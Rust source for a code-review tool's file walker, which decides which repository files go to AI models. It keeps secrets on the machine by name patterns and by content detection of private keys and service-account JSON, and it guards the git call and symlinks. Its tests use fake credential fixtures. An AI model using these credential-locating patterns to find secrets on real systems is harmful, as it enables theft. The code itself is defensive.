//! Finds the files to review.
//!
//! Built on the `ignore` crate (ripgrep's walker), so `.gitignore` rules (and the user's
//! own global gitignore and the clone's `.git/info/exclude`, neither of which ships with
//! the code) keep build output and `node_modules` out. But the code under review must not
//! decide what is reviewed: a file git tracks is reviewed whatever a `.gitignore` says
//! (git is asked with `git ls-files`; without git or outside a repository only the rules
//! apply), and ripgrep's `.ignore` files, which git does not honour and which exist to
//! hide files from tools, are not obeyed. Hidden files are reviewed (a `.eslintrc` or
//! `.github/` workflow can hold the bug), version-control folders are not. The
//! include/exclude globs of the config narrow the set further, and Quorum's own output,
//! cache and configuration are never sent. Secret files (`.env`, private keys, cloud
//! credentials) stay on the machine: sending a key to a model is a leak that cannot be
//! undone, while a file left out is merely listed. Anything that cannot be sent to a
//! model as text (binary, oversized, not UTF-8, unreadable, a symlink, a pipe or device)
//! is listed with the reason rather than silently dropped, so the report says exactly
//! what was not reviewed.
//!
//! File names are shown to models and people, so each must name one file: a name that
//! is not valid UTF-8 is written losslessly (each invalid byte as `\xNN`), and a second
//! file whose name reads the same as an earlier one is listed, not merged with it.

use std::collections::HashSet;
use std::ffi::OsStr;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use anyhow::{bail, Context, Result};
use globset::{Glob, GlobSet, GlobSetBuilder};
use ignore::gitignore::{Gitignore, GitignoreBuilder};
use serde::{Deserialize, Serialize};

use crate::config::ReviewSettings;

/// A file that will be sent to the models.
#[derive(Debug, Clone, PartialEq)]
pub struct SourceFile {
    /// Path relative to the review root, with `/` separators: the name models see.
    pub path: String,
    pub text: String,
    /// SHA-256 of the file's bytes, hex.
    pub content_hash: String,
}

impl SourceFile {
    pub fn line_count(&self) -> u32 {
        self.text.lines().count().max(1) as u32
    }
}

/// A file that was found but not reviewed, and why.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Skipped {
    pub path: String,
    pub reason: String,
}

/// How every secret file's reason begins, so plans and reports can tell them apart.
pub const SECRET_REASON: &str = "secret file: ";

/// What every secret file's reason ends with: what happened and how to change it.
const SECRET_REASON_TAIL: &str = "; not sent to any model; set review.secret_files to change";

impl Skipped {
    /// Whether the file was kept home as a secret (rather than unreadable, binary, …).
    pub fn is_secret(&self) -> bool {
        self.reason.starts_with(SECRET_REASON)
    }
}

#[derive(Debug, Default)]
pub struct Walked {
    /// Sorted by path.
    pub files: Vec<SourceFile>,
    pub skipped: Vec<Skipped>,
}

/// Folders never reviewed: version control internals.
const VCS_DIRS: &[&str] = &[".git", ".hg", ".svn", ".jj"];

/// The `review.secret_files` patterns, compiled: gitignore syntax, matched without
/// regard to case (`ID_RSA`, `Server.PEM` are the same secrets), plus the content check
/// for private keys and service-account keys, whose names may say nothing.
pub struct SecretFiles {
    by_name: Gitignore,
    /// The folder patterns that name no path (`.aws/`, `.ssh/`), for the folders around the
    /// review root: patterns match paths below the root, so reviewing `proj/.aws` itself
    /// would otherwise find nothing secret in `config`.
    folders: Gitignore,
    /// The folder pattern an ancestor of the review root matched, if one did: then every
    /// file is a secret.
    enclosing: Option<String>,
    /// `secret_files = []` sends everything, service-account keys included.
    by_content: bool,
}

/// Why a file is a secret, if it is one.
#[derive(Debug, Clone, PartialEq, Eq)]
enum SecretVerdict {
    /// A `secret_files` pattern matched.
    Pattern(String),
    /// A folder pattern matched a folder the review root is inside.
    Enclosed(String),
    /// A `!pattern` said this file is not a secret, whatever its content.
    Allowed,
    /// No pattern matched: the content decides.
    Unknown,
}

impl SecretFiles {
    pub fn new(patterns: &[String]) -> Result<SecretFiles> {
        let mut builder = secret_builder();
        let mut folders = secret_builder();
        for pattern in patterns {
            builder
                .add_line(None, pattern)
                .with_context(|| format!("review.secret_files: {pattern:?} is not a valid pattern"))?;
            if is_folder_anywhere(pattern) {
                folders
                    .add_line(None, pattern)
                    .with_context(|| format!("review.secret_files: {pattern:?} is not a valid pattern"))?;
            }
        }
        Ok(SecretFiles {
            by_name: builder.build().context("review.secret_files")?,
            folders: folders.build().context("review.secret_files")?,
            enclosing: None,
            by_content: !patterns.is_empty(),
        })
    }

    /// Notes whether `root` lies inside a folder a folder pattern names (`proj/.aws`,
    /// `~/.ssh` reviewed as `.`), by its path as given and as resolved: then every file
    /// under it is a secret.
    fn around(mut self, root: &Path) -> SecretFiles {
        let given = std::path::absolute(root).unwrap_or_else(|_| root.to_path_buf());
        let resolved = std::fs::canonicalize(root).ok();
        self.enclosing = [Some(given), resolved].iter().flatten().find_map(|path| {
            path.components().find_map(|component| match component {
                std::path::Component::Normal(name) => match self.folders.matched(Path::new(name), true) {
                    ignore::Match::Ignore(glob) => Some(glob.original().to_string()),
                    _ => None,
                },
                _ => None,
            })
        });
        self
    }

    /// `rel` is the real path relative to the root (not its display name), so a name
    /// that is not UTF-8 is matched as the bytes it is.
    fn by_name(&self, rel: &Path) -> SecretVerdict {
        if let Some(pattern) = &self.enclosing {
            return SecretVerdict::Enclosed(pattern.clone());
        }
        match self.by_name.matched_path_or_any_parents(rel, false) {
            ignore::Match::Ignore(glob) => SecretVerdict::Pattern(glob.original().to_string()),
            ignore::Match::Whitelist(_) => SecretVerdict::Allowed,
            ignore::Match::None => SecretVerdict::Unknown,
        }
    }
}

/// Whether `pattern` names a folder at any depth (`.aws/`): a trailing `/` and no other.
fn is_folder_anywhere(pattern: &str) -> bool {
    pattern
        .trim()
        .strip_suffix('/')
        .is_some_and(|name| !name.is_empty() && !name.contains('/') && !name.starts_with('!'))
}

fn secret_builder() -> GitignoreBuilder {
    let mut builder = GitignoreBuilder::new(".");
    builder
        .case_insensitive(true)
        .expect("case_insensitive cannot fail")
        // A typo such as `[` is an error to fix, not a pattern matching a literal `[`.
        .allow_unclosed_class(false);
    builder
}

/// Checks one `review.secret_files` pattern; the error says what is wrong with it.
pub fn check_secret_pattern(pattern: &str) -> std::result::Result<(), String> {
    let mut builder = secret_builder();
    match builder.add_line(None, pattern) {
        Ok(_) => Ok(()),
        Err(ignore::Error::Glob { err, .. }) => Err(err),
        Err(other) => Err(other.to_string()),
    }
}

fn secret_reason(why: &str) -> String {
    format!("{SECRET_REASON}{why}{SECRET_REASON_TAIL}")
}

/// Walks `root` (a folder, or a single file) and reads every reviewable file, leaving
/// out `never` (Quorum's own output folder, cache and configuration, where under root).
pub fn walk(root: &Path, settings: &ReviewSettings, never: &[PathBuf]) -> Result<Walked> {
    // The root itself may be a symlink (a user's choice); links inside it are not followed.
    let meta =
        std::fs::metadata(root).with_context(|| format!("cannot read {}: check the path to review", root.display()))?;
    let secrets = SecretFiles::new(&settings.secret_files)?.around(root);
    if meta.is_file() {
        let real_name = root.file_name().map(Path::new).unwrap_or(Path::new(""));
        let candidate = Candidate {
            path: root,
            rel: real_name,
            name: display_name(real_name),
            len: meta.len(),
        };
        let mut walked = Walked::default();
        if !skip_secret_by_name(candidate.rel, &candidate.name, &secrets, &mut walked) {
            read_candidate(&candidate, settings.max_file_bytes, &secrets, &mut walked);
        }
        return Ok(walked);
    }
    if !meta.is_dir() {
        bail!("{} is neither a folder nor a file", root.display());
    }
    let rules = Rules {
        include: glob_set(&settings.include)?,
        exclude: glob_set(&settings.exclude)?,
        exclude_globs: settings.exclude.clone(),
        secrets,
        max_file_bytes: settings.max_file_bytes,
    };
    let never = relative_inside(root, never);
    let mut walked = Walked::default();
    let mut names = HashSet::new();
    // Every file the walker yielded, by its real path relative to the root, so the
    // tracked-files pass adds only what the ignore rules dropped.
    let mut seen = HashSet::new();
    let walk_root = root.to_path_buf();
    let walk_never = never.clone();
    let walker = ignore::WalkBuilder::new(root)
        .follow_links(false)
        .require_git(false)
        .hidden(false)
        // `.ignore` files hide code from tools without affecting git: the code under
        // review does not get to hide itself from its review that way.
        .ignore(false)
        // The user's global gitignore is the user's own choice and `.git/info/exclude` is
        // local to this clone (it does not travel with the code); like `.gitignore` they
        // only keep untracked files out, since tracked ones are added back below.
        .git_global(true)
        .git_exclude(true)
        .sort_by_file_name(|a, b| a.cmp(b))
        .filter_entry(move |entry| {
            let is_dir = entry.file_type().is_some_and(|t| t.is_dir());
            let name = entry.file_name().to_string_lossy();
            let rel = relative(entry.path(), &walk_root);
            // A `.git` *file* (a worktree or submodule) names a local path: not code.
            let vcs = VCS_DIRS.contains(&name.as_ref()) && (is_dir || name == ".git");
            !vcs && !walk_never.contains(&rel)
        })
        .build();
    for entry in walker {
        let entry = match entry {
            Ok(entry) => entry,
            Err(err) => {
                walked.skipped.push(Skipped {
                    path: error_path(&err, root),
                    reason: format!("unreadable: {err}"),
                });
                continue;
            }
        };
        let Some(kind) = entry.file_type() else { continue };
        if kind.is_dir() {
            continue;
        }
        let real_rel = entry.path().strip_prefix(root).unwrap_or(entry.path());
        seen.insert(real_rel.to_path_buf());
        let found = Found {
            path: entry.path(),
            rel: real_rel,
            kind,
            len: || entry.metadata().map(|m| m.len()).unwrap_or(0),
        };
        consider(found, &rules, &mut names, &mut walked);
    }
    add_tracked_files(root, &seen, &never, &rules, &mut names, &mut walked);
    walked.files.sort_by(|a, b| a.path.cmp(&b.path));
    walked.skipped.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(walked)
}

/// Why `review.include`/`review.exclude` leave the file named `rel` out, if they do;
/// `exclude_globs` are the patterns `exclude` was built from, in order.
fn filtered_out(rel: &str, include: &GlobSet, exclude: &GlobSet, exclude_globs: &[String]) -> Option<String> {
    if let Some(&first) = exclude.matches(rel).first() {
        let pattern = exclude_globs.get(first).map(String::as_str).unwrap_or_default();
        return Some(format!("excluded by review.exclude {pattern:?}"));
    }
    (!include.is_match(rel)).then(|| "not matched by review.include".to_string())
}

/// What decides, for every file found, whether and how it is reviewed.
struct Rules {
    include: GlobSet,
    exclude: GlobSet,
    /// The patterns `exclude` was built from, in order, to name the one that matched.
    exclude_globs: Vec<String>,
    secrets: SecretFiles,
    max_file_bytes: u64,
}

/// A file (or link, pipe, …) found under the root, by the walker or by git.
struct Found<'a, L: FnOnce() -> u64> {
    /// Where it is.
    path: &'a Path,
    /// Its real path relative to the root.
    rel: &'a Path,
    /// What it is, links not followed.
    kind: std::fs::FileType,
    /// Its size, asked only for a regular file that gets that far.
    len: L,
}

/// Puts one found file through Quorum's own rules (include/exclude, names, run output,
/// secrets, links, size, content) and reads it or records why it was not.
fn consider<L: FnOnce() -> u64>(found: Found<L>, rules: &Rules, names: &mut HashSet<String>, walked: &mut Walked) {
    let rel = display_name(found.rel);
    if let Some(reason) = filtered_out(&rel, &rules.include, &rules.exclude, &rules.exclude_globs) {
        // Listed, not dropped: a file the configuration leaves out is code nobody
        // reviewed, and the plan and the report must say so.
        walked.skipped.push(Skipped { path: rel, reason });
        return;
    }
    if !names.insert(rel.clone()) {
        walked.skipped.push(Skipped {
            path: rel,
            reason: "another file's name reads the same once bytes that are not UTF-8 are written as \\xNN; \
                     only the first was considered (rename one of them)"
                .into(),
        });
        return;
    }
    if is_run_output(found.path) {
        walked.skipped.push(Skipped {
            path: rel,
            reason: RUN_OUTPUT_REASON.into(),
        });
        return;
    }
    if skip_secret_by_name(found.rel, &rel, &rules.secrets, walked) {
        return;
    }
    if found.kind.is_symlink() {
        walked.skipped.push(Skipped {
            path: rel,
            reason: "symbolic link (not followed, so nothing outside the root is read)".into(),
        });
        return;
    }
    if !found.kind.is_file() {
        walked.skipped.push(Skipped {
            path: rel,
            reason: "not a regular file (a pipe, socket or device)".into(),
        });
        return;
    }
    let candidate = Candidate {
        path: found.path,
        rel: found.rel,
        name: rel,
        len: (found.len)(),
    };
    read_candidate(&candidate, rules.max_file_bytes, &rules.secrets, walked);
}

/// The most bytes of `git ls-files` output read: about 700,000 paths of 90 bytes, far
/// beyond the largest monorepos a review is run on, so a hostile index cannot cost
/// unbounded memory.
const MAX_TRACKED_LIST_BYTES: u64 = 64 * 1024 * 1024;

/// The files git tracks under `root`, relative to it, when `root` is inside a git work
/// tree; `None` when git is missing or `root` is not in a repository (or git fails), so
/// the walk goes on as without git.
struct Tracked {
    paths: Vec<PathBuf>,
    /// Whether the list was cut at [`MAX_TRACKED_LIST_BYTES`].
    truncated: bool,
}

fn git_tracked(root: &Path) -> Option<Tracked> {
    use std::io::Read as _;
    use std::process::{Command, Stdio};
    let mut child = Command::new("git")
        .arg("-C")
        .arg(root)
        // The repository's own config is part of the code under review: it must not run
        // a command (`core.fsmonitor`) when Quorum asks for the list.
        .args([
            "-c",
            "core.fsmonitor=false",
            "--no-optional-locks",
            "ls-files",
            "-z",
            "--",
        ])
        // The user's environment must not point git at another repository or index.
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .env_remove("GIT_INDEX_FILE")
        .env_remove("GIT_CEILING_DIRECTORIES")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    let mut out = Vec::new();
    let read = child
        .stdout
        .take()
        .map(|stdout| stdout.take(MAX_TRACKED_LIST_BYTES + 1).read_to_end(&mut out));
    let truncated = out.len() as u64 > MAX_TRACKED_LIST_BYTES;
    if truncated {
        // Git is still writing: stop it rather than wait for the rest.
        let _ = child.kill();
    }
    let status = child.wait().ok()?;
    if !matches!(read, Some(Ok(_))) || (!truncated && !status.success()) {
        return None;
    }
    let mut entries: Vec<&[u8]> = out.split(|&b| b == 0).collect();
    // The last piece follows the last NUL: empty, or a path cut off by the limit.
    entries.pop();
    let paths = entries.into_iter().filter_map(path_from_git).collect();
    Some(Tracked { paths, truncated })
}

/// A path as `git ls-files -z` writes it: the name's bytes on Unix, UTF-8 elsewhere.
fn path_from_git(bytes: &[u8]) -> Option<PathBuf> {
    if bytes.is_empty() {
        return None;
    }
    #[cfg(unix)]
    {
        use std::os::unix::ffi::OsStrExt as _;
        Some(PathBuf::from(OsStr::from_bytes(bytes)))
    }
    #[cfg(not(unix))]
    {
        std::str::from_utf8(bytes).ok().map(PathBuf::from)
    }
}

/// Adds back the files git tracks under `root` that the walker did not yield (a
/// `.gitignore` line, or a folder it ignores, dropped them): committed code is reviewed
/// whatever the ignore files committed with it say. They go through the same rules as
/// every other file; version-control folders and Quorum's own files stay out.
fn add_tracked_files(
    root: &Path,
    seen: &HashSet<PathBuf>,
    never: &[String],
    rules: &Rules,
    names: &mut HashSet<String>,
    walked: &mut Walked,
) {
    let Some(tracked) = git_tracked(root) else { return };
    if tracked.truncated {
        walked.skipped.push(Skipped {
            path: ".".into(),
            reason: format!(
                "git's list of tracked files is over {MAX_TRACKED_LIST_BYTES} bytes; tracked files past that point \
                 that .gitignore rules hide were not reviewed (review a subfolder)"
            ),
        });
    }
    for rel in &tracked.paths {
        if seen.contains(rel) || is_left_out(rel, never) || !is_below_without_links(root, rel) {
            continue;
        }
        let path = root.join(rel);
        // Deleted, or not checked out (sparse): there is nothing to review.
        let Ok(meta) = std::fs::symlink_metadata(&path) else {
            continue;
        };
        if meta.is_dir() {
            continue;
        }
        let found = Found {
            path: &path,
            rel,
            kind: meta.file_type(),
            len: || meta.len(),
        };
        consider(found, rules, names, walked);
    }
}

/// Whether `rel` names a place below `root` reached through real folders only: the index
/// is part of the code under review, and a tracked `dir/x` whose `dir` is now a link (or a
/// crafted `../x`) must not make Quorum read outside the root.
fn is_below_without_links(root: &Path, rel: &Path) -> bool {
    let plain = rel.components().all(|c| matches!(c, std::path::Component::Normal(_)));
    plain
        && rel
            .ancestors()
            .skip(1)
            .filter(|a| !a.as_os_str().is_empty())
            .all(|dir| std::fs::symlink_metadata(root.join(dir)).is_ok_and(|meta| meta.is_dir()))
}

/// Whether `rel` lies inside a version-control folder or is, or lies inside, one of
/// Quorum's own paths (`never`): what the walker's entry filter keeps out.
fn is_left_out(rel: &Path, never: &[String]) -> bool {
    let in_vcs = rel
        .parent()
        .is_some_and(|dir| dir.components().any(|c| VCS_DIRS.iter().any(|v| c.as_os_str() == *v)));
    in_vcs
        || rel
            .ancestors()
            .any(|a| !a.as_os_str().is_empty() && never.contains(&display_name(a)))
}

/// A file found by the walk, before it is read.
struct Candidate<'a> {
    /// Where to read it: its real path, whatever its name.
    path: &'a Path,
    /// Its real path relative to the root, for the secret patterns.
    rel: &'a Path,
    /// The name models and people see (see [`display_name`]).
    name: String,
    /// Its size as the folder listing says.
    len: u64,
}

/// Records the file at `rel` (real path, relative to the root; shown as `name`) as a
/// secret when a `secret_files` pattern names it, before anything of it is read (a
/// symlink or pipe named `id_rsa` is a secret too); returns whether it was.
fn skip_secret_by_name(rel: &Path, name: &str, secrets: &SecretFiles, walked: &mut Walked) -> bool {
    let why = match secrets.by_name(rel) {
        SecretVerdict::Pattern(pattern) => format!("matches {pattern}"),
        SecretVerdict::Enclosed(pattern) => format!("the reviewed folder is inside a folder matching {pattern}"),
        SecretVerdict::Allowed | SecretVerdict::Unknown => return false,
    };
    walked.skipped.push(Skipped {
        path: name.to_string(),
        reason: secret_reason(&why),
    });
    true
}

const RUN_OUTPUT_REASON: &str = "output of a Quorum run (this folder holds run.json and responses.jsonl)";

/// Whether `path` is one of Quorum's own files in a folder that holds a run, wherever
/// that folder is (this run's `--out`, another run's, or one committed with the code):
/// earlier answers are not code to review. Only Quorum's file names are left out, so a
/// `run.json` dropped beside code hides nothing else.
fn is_run_output(path: &Path) -> bool {
    let (Some(name), Some(dir)) = (path.file_name().and_then(|n| n.to_str()), path.parent()) else {
        return false;
    };
    crate::store::is_own_file_name(name) && crate::store::holds_run(dir)
}

/// Reads one file, or records why it cannot be reviewed.
fn read_candidate(candidate: &Candidate, max_bytes: u64, secrets: &SecretFiles, walked: &mut Walked) {
    let skip = |walked: &mut Walked, reason: String| {
        walked.skipped.push(Skipped {
            path: candidate.name.clone(),
            reason,
        })
    };
    let len = candidate.len;
    if len > max_bytes {
        return skip(walked, format!("{len} bytes, over max_file_bytes = {max_bytes}"));
    }
    let bytes = match std::fs::read(candidate.path) {
        Ok(bytes) => bytes,
        Err(err) => return skip(walked, format!("unreadable: {err}")),
    };
    if bytes.len() as u64 > max_bytes {
        return skip(
            walked,
            format!("{} bytes, over max_file_bytes = {max_bytes}", bytes.len()),
        );
    }
    if bytes.iter().take(8192).any(|&b| b == 0) {
        return skip(walked, "binary (contains NUL bytes)".into());
    }
    if bytes.iter().all(u8::is_ascii_whitespace) {
        return skip(walked, "empty".into());
    }
    let content_hash = crate::hash::sha256_hex(&bytes);
    let text = match String::from_utf8(bytes) {
        Ok(text) => text,
        Err(_) => return skip(walked, "not UTF-8 text".into()),
    };
    let checks_content = secrets.by_content && secrets.by_name(candidate.rel) != SecretVerdict::Allowed;
    if checks_content && is_service_account_key(&text) {
        return skip(
            walked,
            secret_reason("a service-account key (JSON with \"type\": \"service_account\" and a \"private_key\")"),
        );
    }
    if checks_content {
        if let Some(kind) = private_key_kind(&text) {
            return skip(walked, secret_reason(&format!("{kind} (found by its content)")));
        }
    }
    walked.files.push(SourceFile {
        path: candidate.name.clone(),
        text,
        content_hash,
    });
}

/// How far into a file a private key's first line may start: key files begin with it,
/// after at most a few attribute lines (`openssl pkcs12` writes `Bag Attributes`).
const PRIVATE_KEY_WITHIN_BYTES: usize = 1024;
/// How long the first line of key data must be to count as one: a real key's is a full
/// base64 line (64 or 70 characters), where prose or code after a marker is not base64.
const MIN_KEY_DATA_CHARS: usize = 16;
/// How PuTTY key files begin.
const PUTTY_KEY_START: &str = "PuTTY-User-Key-File";

/// What kind of private key file `text` is, whatever its name (`deploy_key`, `key.txt`):
/// a PuTTY key file, or a file that *starts* with a PEM block `-----BEGIN … PRIVATE
/// KEY-----` (RSA, EC, OpenSSH, PKCS#8, encrypted ones; only blank or attribute lines may
/// come first) followed, after any `Name: value` headers, by a base64 line.
///
/// A source file that embeds a key after some code is not a key file: it is reviewed,
/// with the key block redacted for remote providers and reported as a hard-coded secret
/// (`checks::redact`), so the models and the report see the problem instead of a file
/// silently kept home. A file that only mentions the marker is not a key either.
fn private_key_kind(text: &str) -> Option<&'static str> {
    let text = text.trim_start_matches('\u{feff}');
    if text.trim_start().starts_with(PUTTY_KEY_START) {
        return Some("a PuTTY private key");
    }
    let mut offset = 0;
    let mut lines = text.split_inclusive('\n');
    while offset <= PRIVATE_KEY_WITHIN_BYTES {
        let line = lines.next()?;
        offset += line.len();
        let marker = line.trim_end();
        if marker.starts_with("-----BEGIN ") && marker.ends_with("PRIVATE KEY-----") {
            return key_data_follows(lines).then_some("a private key");
        }
        if !is_key_preamble(marker) {
            return None;
        }
    }
    None
}

/// Whether a line may stand before a key in a key file: blank, or an attribute line as
/// `openssl pkcs12` writes them (`Bag Attributes`, `    localKeyID: 01 02`,
/// `Key Attributes: <No Attributes>`).
fn is_key_preamble(line: &str) -> bool {
    let trimmed = line.trim();
    trimmed.is_empty()
        || trimmed.starts_with("Bag Attributes")
        || trimmed.starts_with("Key Attributes")
        || (line.starts_with(char::is_whitespace) && trimmed.contains(": "))
}

/// Whether the first line after headers (`Proc-Type: 4,ENCRYPTED`) and blank lines is base64.
fn key_data_follows<'a>(lines: impl Iterator<Item = &'a str>) -> bool {
    let is_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    lines
        .map(str::trim)
        .find(|line| !line.is_empty() && !line.contains(": "))
        .is_some_and(|data| data.len() >= MIN_KEY_DATA_CHARS && data.chars().all(is_base64))
}

/// Whether `text` holds a cloud service-account key (Google's JSON key files): named
/// anything (`gcp.json`, `key.txt`), so only the content tells. The fields are found as
/// JSON writes them, with any spacing, so a key pasted inside another file counts too.
fn is_service_account_key(text: &str) -> bool {
    json_field_at(text, "type", Some("\"service_account\"")) && json_field_at(text, "private_key", None)
}

/// Whether `text` has `"key"` followed by `:` (and then `value`, when given), allowing
/// any whitespace between them.
fn json_field_at(text: &str, key: &str, value: Option<&str>) -> bool {
    let quoted = format!("\"{key}\"");
    text.match_indices(&quoted).any(|(at, _)| {
        let rest = text[at + quoted.len()..].trim_start();
        let Some(rest) = rest.strip_prefix(':') else {
            return false;
        };
        value.is_none_or(|v| rest.trim_start().starts_with(v))
    })
}

/// The paths in `paths` that lie inside `root`, relative to it (as the walker names them).
fn relative_inside(root: &Path, paths: &[PathBuf]) -> Vec<String> {
    let Ok(root) = root.canonicalize() else {
        return Vec::new();
    };
    paths
        .iter()
        .filter_map(|p| {
            let canonical = p.canonicalize().ok()?;
            let rel = canonical.strip_prefix(&root).ok()?;
            (!rel.as_os_str().is_empty()).then(|| relative(rel, Path::new("")))
        })
        .collect()
}

fn glob_set(globs: &[String]) -> Result<GlobSet> {
    let mut builder = GlobSetBuilder::new();
    for glob in globs {
        builder.add(Glob::new(glob).with_context(|| format!("invalid glob {glob:?}"))?);
    }
    Ok(builder.build()?)
}

/// `path` relative to `root`, with `/` separators, as [`display_name`] writes it.
fn relative(path: &Path, root: &Path) -> String {
    display_name(path.strip_prefix(root).unwrap_or(path))
}

/// The name of a relative path: its components joined by `/`, each written losslessly
/// (valid UTF-8 as it is, every other byte as `\xNN`), so two files whose names are
/// not UTF-8 keep two names (`a\xFF.py`, `a\xFE.py`) instead of both reading `a�.py`.
pub fn display_name(rel: &Path) -> String {
    let mut name = String::new();
    for (i, component) in rel.components().enumerate() {
        if i > 0 {
            name.push('/');
        }
        escape_os_str(component.as_os_str(), &mut name);
    }
    name
}

fn escape_os_str(text: &OsStr, out: &mut String) {
    // The encoded bytes are the name's own bytes on Unix, and WTF-8 on Windows (where
    // only an unpaired surrogate is not UTF-8); either way the escape is lossless.
    for chunk in text.as_encoded_bytes().utf8_chunks() {
        out.push_str(chunk.valid());
        for byte in chunk.invalid() {
            let _ = write!(out, "\\x{byte:02X}");
        }
    }
}

fn error_path(err: &ignore::Error, root: &Path) -> String {
    fn find(err: &ignore::Error) -> Option<PathBuf> {
        match err {
            ignore::Error::WithPath { path, .. } => Some(path.clone()),
            ignore::Error::WithDepth { err, .. } | ignore::Error::WithLineNumber { err, .. } => find(err),
            _ => None,
        }
    }
    find(err).map(|p| relative(&p, root)).unwrap_or_else(|| "?".into())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings() -> ReviewSettings {
        ReviewSettings::default()
    }

    fn write(root: &Path, rel: &str, bytes: &[u8]) {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }

    #[test]
    fn walks_sorted_text_files_and_explains_skips() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, "b.go", b"package b\n");
        write(root, "a/x.go", b"package a\n");
        write(root, "img.png", b"\x89PNG\0\0\0");
        write(root, "latin1.txt", b"caf\xe9\n");
        write(root, "big.go", &vec![b'a'; 300]);
        write(root, "empty.go", b"\n\n");
        let mut s = settings();
        s.max_file_bytes = 100;
        let w = walk(root, &s, &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, ["a/x.go", "b.go"]);
        let reasons: Vec<_> = w.skipped.iter().map(|s| (s.path.as_str(), s.reason.as_str())).collect();
        assert_eq!(reasons.len(), 4, "{reasons:?}");
        assert!(reasons.contains(&("img.png", "binary (contains NUL bytes)")));
        assert!(reasons.contains(&("latin1.txt", "not UTF-8 text")));
        assert!(reasons.contains(&("empty.go", "empty")));
        assert!(reasons
            .iter()
            .any(|(p, r)| *p == "big.go" && r.contains("max_file_bytes")));
    }

    #[test]
    fn honours_gitignore_include_and_exclude() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".gitignore", b"generated/\n");
        write(root, "generated/g.go", b"package g\n");
        write(root, "vendor/v.go", b"package v\n");
        write(root, "src/main.go", b"package main\n");
        write(root, "README.md", b"# hi\n");
        let mut s = settings();
        s.include = vec!["**/*.go".into()];
        s.exclude = vec!["vendor/**".into()];
        let w = walk(root, &s, &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, ["src/main.go"]);
        // What the configuration leaves out is listed; what .gitignore leaves out is not.
        let skipped: Vec<_> = w.skipped.iter().map(|s| (s.path.as_str(), s.reason.as_str())).collect();
        assert_eq!(
            skipped,
            [
                (".gitignore", "not matched by review.include"),
                ("README.md", "not matched by review.include"),
                ("vendor/v.go", "excluded by review.exclude \"vendor/**\""),
            ]
        );
    }

    #[cfg(unix)]
    #[test]
    fn never_follows_symlinks_out_of_the_root() {
        let outside = tempfile::tempdir().unwrap();
        write(outside.path(), "secret.txt", b"password=hunter2\n");
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "main.go", b"package main\n");
        std::os::unix::fs::symlink(outside.path().join("secret.txt"), dir.path().join("link.txt")).unwrap();
        std::os::unix::fs::symlink(outside.path(), dir.path().join("linkdir")).unwrap();
        let w = walk(dir.path(), &settings(), &[]).unwrap();
        assert_eq!(w.files.len(), 1);
        assert!(w.files.iter().all(|f| !f.text.contains("hunter2")));
        assert!(w
            .skipped
            .iter()
            .any(|s| s.path == "link.txt" && s.reason.contains("symbolic link")));
    }

    #[test]
    fn hidden_files_are_reviewed_but_vcs_folders_and_quorums_own_files_are_not() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".eslintrc.js", b"module.exports = {};\n");
        write(root, ".git/config", b"[core]\n");
        write(root, "quorum-report/report.md", b"# old report\n");
        write(root, ".quorum-cache/answers.jsonl", b"{}\n");
        write(root, "quorum.toml", b"[review]\n");
        write(root, "main.go", b"package main\n");
        let never = [
            root.join("quorum-report"),
            root.join(".quorum-cache"),
            root.join("quorum.toml"),
        ];
        let w = walk(root, &settings(), &never).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, [".eslintrc.js", "main.go"]);
    }

    fn secret_fixture(root: &Path) {
        write(root, ".env", b"DB_PASSWORD=hunter2\n");
        write(root, "deploy/.env.production", b"API_KEY=prod\n");
        write(root, ".env.example", b"DB_PASSWORD=changeme\n");
        write(root, "id_rsa", b"-----BEGIN OPENSSH PRIVATE KEY-----\n");
        write(root, "keys/ID_ED25519.pub", b"ssh-ed25519 AAAA\n");
        write(root, "certs/Server.PEM", b"-----BEGIN CERTIFICATE-----\n");
        write(root, "tls/site.key", b"-----BEGIN PRIVATE KEY-----\n");
        write(root, "home/.aws/credentials", b"[default]\naws_secret_access_key = x\n");
        write(root, "home/.aws/config", b"[default]\nregion = eu-west-1\n");
        write(root, ".ssh/config", b"Host *\n");
        write(root, ".npmrc", b"//registry.npmjs.org/:_authToken=npm_x\n");
        write(root, "app/gcp.json", SERVICE_ACCOUNT.as_bytes());
        write(
            root,
            "app/settings.json",
            b"{\"type\": \"app\", \"private_key_path\": \"k\"}\n",
        );
        write(root, "main.py", b"print(1)\n");
    }

    const SERVICE_ACCOUNT: &str = "{\n  \"type\" :\n \"service_account\",\n  \"project_id\": \"p\",\n  \
        \"private_key\": \"-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n\"\n}\n";

    #[test]
    fn secret_files_are_listed_with_the_pattern_and_never_read() {
        let dir = tempfile::tempdir().unwrap();
        secret_fixture(dir.path());
        let w = walk(dir.path(), &settings(), &[]).unwrap();
        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(paths, [".env.example", "app/settings.json", "main.py"]);
        let secret = |path: &str| {
            w.skipped
                .iter()
                .find(|s| s.path == path)
                .unwrap_or_else(|| panic!("{path} not listed: {:?}", w.skipped))
                .reason
                .clone()
        };
        assert_eq!(
            secret(".env"),
            "secret file: matches .env*; not sent to any model; set review.secret_files to change"
        );
        assert!(secret("deploy/.env.production").contains("matches .env*"));
        assert!(secret("id_rsa").contains("matches id_rsa*"));
        assert!(
            secret("keys/ID_ED25519.pub").contains("matches id_ed25519*"),
            "case does not matter"
        );
